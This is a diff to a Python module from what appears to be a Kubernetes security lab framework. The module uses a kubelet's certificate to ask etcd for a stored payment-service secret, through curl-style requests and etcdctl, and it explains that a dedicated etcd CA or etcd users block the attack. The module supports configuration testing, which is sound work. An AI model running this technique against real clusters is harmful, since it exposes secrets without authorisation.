@@ -1,7 +1,9 @@
-"""Open etcd with a certificate that was made for something else: a kubelet's.
+"""Read a secret from etcd with the certificate of a kubelet.
 
-Where one authority signs for everything, TLS tells etcd only that somebody has a certificate.
-What then stands between a worker and the cluster's secrets is etcd's users, if it has any.
+If one CA signs for all components, TLS tells etcd only that the caller has some certificate of
+the cluster. The attacker needs the certificate and key of a kubelet, on the worker or as a copy.
+They ask etcd for a secret and read it if etcd accepts the certificate and has no users. A CA of
+its own for etcd stops it at the handshake, and users in etcd stop it at the request.
 """
 
 from __future__ import annotations
@@ -13,7 +15,7 @@ from labkit.cluster import Environment
 from labkit.errors import ProbeError, ProbeTimeout
 from labkit.model import Foothold, Model
 from labkit.model.rights import trusted_by
-from labkit.techniques._lib.api.worker import WORKER, carried
+from labkit.techniques._lib.api.component_credential import WORKER, credential_options
 from labkit.techniques._lib.machines.reach import inside, request, run_from
 from labkit.techniques._lib.stores.etcd import (
     API,
@@ -21,7 +23,7 @@ from labkit.techniques._lib.stores.etcd import (
     as_apiserver,
     client_channel,
     encode,
-    keeps_plaintext,
+    stores_plaintext,
 )
 from labkit.techniques._lib.stores.secret import true_secret
 from labkit.techniques._lib.technique import (
@@ -41,27 +43,28 @@ __all__ = ["TECHNIQUE"]
 CHANNEL = "kube-apiserver@* -> etcd@*"
 WANTED = ("payments", "card-processor", "api-key")
 KEY = "/registry/secrets/payments/card-processor"
-#: What etcd says to a name that is none of its users', or to none at all.
+#: etcd's errors for a name that is not one of its users, and for a caller without a name.
 REFUSALS = ("permission denied", NO_USER)
 
 
 def predict(model: Model, foothold: Foothold) -> Prediction:
-    """Say what the model says: whom etcd trusts, whether it has users, and what it keeps."""
+    """Predict from the CA that etcd trusts, from its users and from encryption at rest."""
     channel = model.open_channels(CHANNEL)[0]
-    held = model.environment.credential("kubelet", WORKER)
+    credential = model.environment.credential("kubelet", WORKER)
     trusted = model.environment.component(channel.server).setting("trusted-ca-file")
     asked = channel.encryption.value != "none" and channel.client_authentication.value != "none"
     if asked and (
-        held is None or held.signed_by not in trusted_by(model.environment, trusted.value)
+        credential is None
+        or credential.signed_by not in trusted_by(model.environment, trusted.value)
     ):
         return Prediction(False, (f"trusts {trusted.value} only: {trusted.source}",))
     if channel.authorization.value != "allow-all":
         return Prediction(False, (str(channel.authorization),))
-    return keeps_plaintext(model)
+    return stores_plaintext(model)
 
 
 def execute(lab: Lab, foothold: Foothold) -> Verdict:
-    """Knock with the kubelet's certificate, and ask for a secret where the door opens."""
+    """Call etcd with the kubelet's certificate, and ask for a secret if TLS accepts it."""
     secret = true_secret(lab, *WANTED)
     channel = client_channel(lab)
     server = channel.server.partition("@")[2]
@@ -70,13 +73,13 @@ def execute(lab: Lab, foothold: Foothold) -> Verdict:
     if channel.protocol == "http":
         shown = "over plain HTTP, where nobody is asked for a certificate"
     evidence = [f"asked {channel.server} for {KEY}, {shown}"]
-    with carried(lab, foothold, "kubelet") as options:
-        # curl tells what TLS says; only etcd's own client is known by its certificate's name
+    with credential_options(lab, foothold, "kubelet") as options:
+        # curl shows the TLS alert; etcd maps a certificate to a user for gRPC calls only, not JSON
         body = f'{{"key": "{encode(KEY.encode())}"}}'.encode()
-        knock = request(
+        tls_answer = request(
             lab, f"{endpoint}{API}/range", foothold=foothold, body=body, options=options
         )
-        reason, value = knock.refusal, b""
+        reason, value = tls_answer.refusal, b""
         if not reason.startswith("TLS alert"):
             reason, value = _get(lab, foothold, endpoint, options)
     if secret.found_in(value):
@@ -85,13 +88,13 @@ def execute(lab: Lab, foothold: Foothold) -> Verdict:
     if not reason:
         raise ProbeError(f"{channel.server} answered, but not with {secret}")
     if as_apiserver(lab, "get", KEY, "--keys-only").split() != [KEY]:
-        raise ProbeError(f"the apiserver does not get {KEY} from etcd either")
+        raise ProbeError(f"positive control: the apiserver cannot read {KEY} from etcd")
     control = "with the apiserver's certificate, the same member gives the key"
     return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, tuple(evidence), control)
 
 
 def _get(lab: Lab, foothold: Foothold, endpoint: str, options: Sequence[str]) -> tuple[str, bytes]:
-    """Ask for the key with etcdctl; return why there is none, or the value."""
+    """Ask for the key with etcdctl; return the reason of a refusal, and the value."""
     inside(lab, endpoint.partition("://")[2].rpartition(":")[0])
     argv = ["etcdctl", "--command-timeout=4s", f"--endpoints={endpoint}", "get", KEY]
     if endpoint.startswith("https") and options:
@@ -103,7 +106,7 @@ def _get(lab: Lab, foothold: Foothold, endpoint: str, options: Sequence[str]) ->
     if output.exit_code:
         reason = next((word for word in REFUSALS if word in output.error), "")
         if not reason:
-            raise ProbeError("etcd's answer says nothing", evidence=said)
+            raise ProbeError("etcd gave neither the value nor a known refusal", evidence=said)
         return f"etcd: {reason}", b""
     if output.stdout.startswith(b"k8s:enc:"):
         return "the value is a ciphertext", b""
@@ -111,7 +114,7 @@ def _get(lab: Lab, foothold: Foothold, endpoint: str, options: Sequence[str]) ->
 
 
 def _settings(env: Environment) -> list[Setting]:
-    """Return whom etcd trusts."""
+    """Return the CA that etcd trusts for its clients."""
     found = [c.setting("trusted-ca-file") for c in env.components if c.kind == "etcd"]
     return [("whom etcd trusts", item.value or "anybody", str(item.source)) for item in found[:1]]
 
